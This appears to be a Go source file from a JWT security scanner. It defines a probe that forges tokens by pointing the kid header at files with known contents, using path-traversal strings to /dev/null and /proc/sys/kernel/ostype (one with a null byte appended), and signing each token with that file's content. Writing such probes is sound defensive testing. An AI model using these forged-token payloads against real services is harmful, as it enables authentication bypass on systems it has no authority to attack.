package scan

import (
	"context"

	"github.com/jotsight/jotsight/guard/event"
	"github.com/jotsight/jotsight/internal/catalog"
	"github.com/jotsight/jotsight/internal/finding"
)

var _ = add(Probe{
	Name:     "kid-path",
	Weakness: catalog.KIDInjection,
	Title:    "a kid that names a file of known content as the key",
	Stage:    StageKey,
	Needs:    []Need{NeedJWT},
	Requests: requests(keyedRequests(len(knownFiles))),
	Truth:    hostileKID,
	Silent:   catalog.SilentVerifyFailure,
	Alert:    catalog.ForgedAlgorithm,
	Run: func(ctx context.Context, a *attempt) {
		r := a.run
		header := r.token.Header.Set("alg", r.shared())
		var attacks []keyed
		for _, f := range knownFiles {
			attacks = append(attacks, keyed{name: f.name, header: header.Set("kid", f.kid), key: []byte(f.content), elsewhere: header.Set("kid", newCanary())})
		}
		if hit := a.keyed(ctx, "a token signed with the content of a file", attacks...); hit != nil {
			a.find(catalog.KIDInjection, finding.Certain, "kid chooses the file that holds the key, whichever file it is (CWE-22)", a.result.Why)
			a.signs("a file of known content, which kid chooses as the key", hit)
		}
	},
})

const upwards = "../../../../../../../../../.."

// knownFiles are files of which everybody knows the content. Some libraries
// refuse an empty key, hence the other one, which every Linux has.
var knownFiles = []struct{ name, kid, content string }{
	{"an empty file, from any depth", upwards + "/dev/null", ""},
	{"an empty file", "/dev/null", ""},
	{"an empty file, with a null byte that ends the name", upwards + "/dev/null\x00", ""},
	{"a file of the kernel, from any depth", upwards + "/proc/sys/kernel/ostype", "Linux\n"},
	{"a file of the kernel", "/proc/sys/kernel/ostype", "Linux\n"},
	{"a file of the kernel, from any depth, trimmed", upwards + "/proc/sys/kernel/ostype", "Linux"},
}

// hostileKID are the reasons for which a hostile kid may be refused.
var hostileKID = []event.Reason{event.ReasonKIDInjection, event.ReasonUnknownKID, event.ReasonBadSignature, event.ReasonAlgNotAllowed,
	event.ReasonAlgKeyMismatch, event.ReasonKeyUnavailable, event.ReasonMalformed}
